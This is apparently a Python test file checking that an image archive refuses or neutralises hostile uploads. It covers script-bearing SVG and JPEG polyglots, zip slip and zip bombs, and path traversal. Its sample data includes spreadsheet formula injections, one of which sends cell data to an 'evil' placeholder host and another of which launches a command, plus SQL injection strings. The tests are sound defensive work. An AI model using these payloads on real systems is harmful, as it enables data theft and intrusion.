"""Files and tables that mean harm, or are only odd."""

from __future__ import annotations

import csv
import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest_archive import item, jpeg, pixels, take
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from PIL import Image

from cygnet.archive import Archive
from cygnet.archive.exports.texts import csv_line
from cygnet.archive.ingest.items import Unloadable
from cygnet.archive.ingest.rows import pair, read_rows
from cygnet.archive.ingest.sources import files_of
from cygnet.archive.views import NotPlain, segments, trailing_bytes
from cygnet.errors import TableError


def refusal(outcome: Any) -> str:
    return next(f.code for f in outcome.findings if f.level == "refuse")


def png_header(width: int, height: int) -> bytes:
    """A PNG of a size that its few bytes could never fill."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def test_files_that_are_no_images(local: Archive) -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    outcomes = take(
        local,
        [
            item("empty.jpg", b""),
            item("drawing.svg", svg),
            item("drawing.jpg", svg),
            item("page.jpg", b"<html><script>alert(1)</script></html>"),
            item("huge.png", png_header(20_000, 10_000)),
            item("tiny.png", png_header(3, 3)),
            item("cut.jpg", jpeg(1)[:900]),
            item("program.jpg", b"MZ" + bytes(2000)),
        ],
        publish=True,
    )[1]
    codes = ["truncated", "unreadable", "unreadable", "unreadable", "too_large", "too_small", "truncated", "unreadable"]
    assert [refusal(o) for o in outcomes] == codes
    assert len(local) == 0
    assert list(local.blobs.names()) == [], "what is refused is not kept"


def test_a_jpeg_that_is_also_a_page(local: Archive) -> None:
    page = b"<html><script>alert(document.cookie)</script></html>"
    behind = jpeg(1) + page
    comment = jpeg(2, comment=page)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as z:
        z.writestr("x", "y")
    outcomes = take(
        local, [item(f"{k}.jpg", d) for k, d in enumerate((behind, comment, jpeg(3) + packed.getvalue()))], publish=True
    )[1]
    for outcome, data in zip(outcomes, (behind, comment), strict=False):
        assert ("hold", "polyglot") in {(f.level, f.code) for f in outcome.findings}
        view = local.picture(outcome.isic_id)
        assert b"<script" not in view
        assert np.array_equal(np.asarray(Image.open(io.BytesIO(view))), np.asarray(Image.open(io.BytesIO(data))))
    assert {o.state for o in outcomes} == {"draft"}


def test_views_carry_nothing_personal_and_the_same_pixels(local: Archive) -> None:
    image = Image.fromarray(pixels(5))
    exif = Image.Exif()
    exif[0x010E], exif[0x013B], exif[0x0112] = "Anna Meyer, left arm", "Dr Who", 6
    exif.get_ifd(0x8825)[1] = "N"
    profile = b"\0" * 128
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=90, exif=exif, icc_profile=profile, comment=b"Anna Meyer")
    _, [outcome] = take(local, [item("a.jpg", buffer.getvalue())], attribution="Clinic <of> Ümläut & Sons")
    assert {f.code for f in outcome.findings if f.group == "privacy"} == {"exif-position", "exif-person", "exif-text"}
    assert "Anna" not in repr(outcome)
    view = local.picture(outcome.isic_id)
    assert b"Anna" not in view
    assert b"Who" not in view
    with Image.open(io.BytesIO(view)) as shown, Image.open(buffer) as original:
        assert np.array_equal(np.asarray(shown), np.asarray(original))
        assert dict(shown.getexif()) == {0x0112: 6}
        assert shown.info["icc_profile"] == profile
        assert "Clinic &lt;of&gt; Ümläut &amp; Sons" in shown.info["xmp"].decode()
        assert "creativecommons.org/publicdomain/zero" in shown.info["xmp"].decode()
    assert (local.image(outcome.isic_id)["metadata"]["acquisition"]) == {"pixels_x": 96, "pixels_y": 120}


def test_wrong_extension_is_only_noted(local: Archive) -> None:
    buffer = io.BytesIO()
    Image.fromarray(pixels(3)).save(buffer, "PNG")
    _, [outcome] = take(local, [item("a.jpg", buffer.getvalue())], publish=True)
    assert (outcome.state, {f.code for f in outcome.findings}) == ("published", {"wrong-extension"})
    assert local.picture(outcome.isic_id).startswith(b"\xff\xd8")


@given(st.binary(max_size=200), st.integers(0, 2000))
@example(b"\xff\xd9", 0)  # another end of image after the end
@settings(max_examples=80, deadline=None)
def test_damaged_jpegs_never_break_the_reader(noise: bytes, at: int) -> None:
    data = jpeg(1, 40, 32)
    for damaged in (data[:at] + noise + data[at + len(noise) :], noise, data + noise):
        trailing_bytes(damaged)
        try:
            parts = b"".join(part for _, part in segments(damaged))
        except (NotPlain, struct.error):
            continue
        assert damaged.startswith(b"\xff\xd8") and len(parts) <= len(damaged)
    assert trailing_bytes(data + noise) == noise


@given(st.binary(min_size=1, max_size=60), st.integers(0, 3000))
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_damaged_files_are_added_or_refused(local: Archive, noise: bytes, at: int) -> None:
    data = jpeg(1, 60, 48)
    summary, [outcome] = take(local, [item("x.jpg", data[:at] + noise + data[at + len(noise) :])])
    assert outcome.result in ("added", "present", "refused")
    assert summary.added + summary.present + summary.refused == 1


def zipped(path: Path, files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return path


def test_zips_slip_nowhere(tmp_path: Path, local: Archive) -> None:
    names = [
        "../../outside.jpg",
        "/etc/passwd.jpg",
        "C:\\windows\\a.jpg",
        "ok/b.jpg",
        "__MACOSX/c.jpg",
        ".d.jpg",
        "readme.txt",
    ]
    files = files_of(zipped(tmp_path / "a.zip", {n: jpeg(k) for k, n in enumerate(names)}))
    assert set(files) == {"../../outside.jpg", "/etc/passwd.jpg", "C:/windows/a.jpg", "ok/b.jpg"} or set(files) == set(
        names[:4]
    )
    before = {p for p in tmp_path.rglob("*") if "archive" not in p.parts}
    summary, _ = take(local, [item(n, load()) for n, load in files.items()])
    assert summary.added == 4
    assert {p for p in tmp_path.rglob("*") if "archive" not in p.parts} == before
    assert not Path("/etc/passwd.jpg").exists()


def load_code(files: Any, name: str) -> str:
    with pytest.raises(Unloadable) as raised:
        files[name]()
    return str(raised.value.finding.code)


def test_bombs_nests_and_locks(tmp_path: Path) -> None:
    nested = zipped(tmp_path / "inner.zip", {"a.jpg": jpeg(1)}).read_bytes()
    files = files_of(
        zipped(tmp_path / "a.zip", {"bomb.png": bytes(30_000_000), "inner.zip": nested, "good.jpg": jpeg(2)})
    )
    assert load_code(files, "bomb.png") == "zip-bomb"
    assert load_code(files, "inner.zip") == "nested-archive"
    assert files["good.jpg"]() == jpeg(2)
    # A header that lies about the size is found while reading.
    data = bytearray((tmp_path / "a.zip").read_bytes())
    true = struct.pack("<I", 30_000_000)
    while true in data:
        place = data.index(true)
        data[place : place + 4] = struct.pack("<I", 1000)
    (tmp_path / "lying.zip").write_bytes(data)
    assert load_code(files_of(tmp_path / "lying.zip"), "bomb.png") in ("zip-bomb", "truncated")
    locked = bytearray(zipped(tmp_path / "b.zip", {"a.jpg": jpeg(1)}, zipfile.ZIP_STORED).read_bytes())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + offset] |= 1
    (tmp_path / "b.zip").write_bytes(locked)
    assert load_code(files_of(tmp_path / "b.zip"), "a.jpg") == "encrypted"


TEXT = "image,sex,age,diagnosis\na,male,40,Nevus\nb,female,50,Nevus\n"


@pytest.mark.parametrize(
    "data",
    [
        TEXT.encode(),
        b"\xef\xbb\xbf" + TEXT.encode(),
        TEXT.replace("\n", "\r\n").encode(),
        TEXT.encode("utf-16"),
        TEXT.replace(",", ";").encode(),
        TEXT.replace(",", "\t").encode(),
    ],
    ids=["plain", "bom", "crlf", "utf-16", "semicolons", "tabs"],
)
def test_tables_of_every_make(tmp_path: Path, local: Archive, data: bytes) -> None:
    (tmp_path / "m.csv").write_bytes(data)
    photos = tmp_path / "photos"
    photos.mkdir()
    for k, name in enumerate("ab"):
        (photos / f"{name}.jpg").write_bytes(jpeg(k))
    summary, _ = take(local, list(pair(files_of(photos), read_rows(tmp_path / "m.csv"))))
    assert summary.added == 2
    assert local.count("sex:male diagnosis_3:Nevus age_approx:40") == 1


def test_tables_that_cannot_be_used(tmp_path: Path) -> None:
    table = tmp_path / "m.csv"
    table.write_text("image,sex,sex\na,male,female\n")
    with pytest.raises(TableError, match="sex"):
        read_rows(table)
    table.write_text("image,patient_name,dob\na,Anna Meyer,1957-02-03\n")
    with pytest.raises(TableError, match="patient_name"):
        read_rows(table)
    assert len(read_rows(table, drop=["patient_name", "dob"])) == 1
    table.write_text("sex\nmale\n")
    with pytest.raises(TableError, match="image"):
        read_rows(table)


def test_a_ten_megabyte_cell_and_formulas(tmp_path: Path, local: Archive) -> None:
    formula = '=HYPERLINK("http://evil/?"&A1)'
    with (tmp_path / "m.csv").open("w", newline="") as stream:
        csv.writer(stream).writerows([("image", "remark"), ("a", formula), ("b", "x" * 10_000_000)])
    photos = tmp_path / "photos"
    photos.mkdir()
    for k, name in enumerate("ab"):
        (photos / f"{name}.jpg").write_bytes(jpeg(k))
    _, [a, b] = take(local, list(pair(files_of(photos), read_rows(tmp_path / "m.csv"))))
    assert a.result == "added"
    assert (b.result, "x" * 1000 not in repr(b)) == ("refused", True)


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=cmd|"/c calc"!A1'])
def test_exports_are_not_executed(text: str) -> None:
    [cell] = next(csv.reader(io.StringIO(csv_line([text]), newline="")))
    assert cell == "'" + text
    assert next(csv.reader([csv_line([-5, 1.5, None, True, "-5", "plain"])])) == [
        "-5",
        "1.5",
        "",
        "true",
        "-5",
        "plain",
    ]


def test_attributions_in_exports_are_harmless(local: Archive) -> None:
    from cygnet.archive.exports.layouts import isic_layout
    from cygnet.archive.exports.rows import rows_matching

    take(local, [item("a.jpg", jpeg(1))], attribution="=2+5", publish=True)
    with local.database.read() as connection:
        files = dict(isic_layout(rows_matching(connection, local.matches()), local.blobs))
    [row] = csv.DictReader(io.StringIO(files["metadata.csv"].decode()))
    assert row["attribution"] == "'=2+5"


NASTY = [
    "'; DROP TABLE image;--",
    '"',
    "\\",
    "%_*",
    "../../../etc/passwd",
    "<script>",
    "\x01\x1f",
    "\u202e",
    "a\nb",
    "ü" * 400,
    "\ud800x",
]


@pytest.mark.parametrize("text", NASTY)
def test_every_text_field_takes_any_text(archive: Archive, text: str) -> None:
    from cygnet.archive import collections

    record = {"patient_id": text, "lesion_id": text, "rcm_case_id": text}
    shown = text.encode("utf-8", "replace").decode()
    summary, [outcome] = take(
        archive, [item(text, jpeg(1), **record)], attribution=shown, cohort=shown, actor=shown, publish=True
    )
    assert summary.added == 1
    assert archive.image(outcome.isic_id)["attribution"] == shown
    with archive.database.write() as connection:
        number = collections.create(connection, shown, shown, description=shown)
        collections.add(connection, number, archive.matches(), shown)
    assert archive.count(f"collections:{number}") == 1
    assert archive.verify().clean


def test_names_of_files_from_tables_reach_no_file(tmp_path: Path, local: Archive) -> None:
    secret = tmp_path / "secret.jpg"
    secret.write_bytes(jpeg(1))
    photos = tmp_path / "photos"
    photos.mkdir()
    (photos / "a.jpg").write_bytes(jpeg(2))
    names = ["../secret.jpg", str(secret), "a.jpg/../../secret.jpg", "file:///etc/passwd"]
    (tmp_path / "m.csv").write_text("\n".join(["image", *names]) + "\n")
    _, outcomes = take(local, list(pair(files_of(photos), read_rows(tmp_path / "m.csv"))))
    assert [refusal(o) for o in outcomes] == ["missing"] * 4
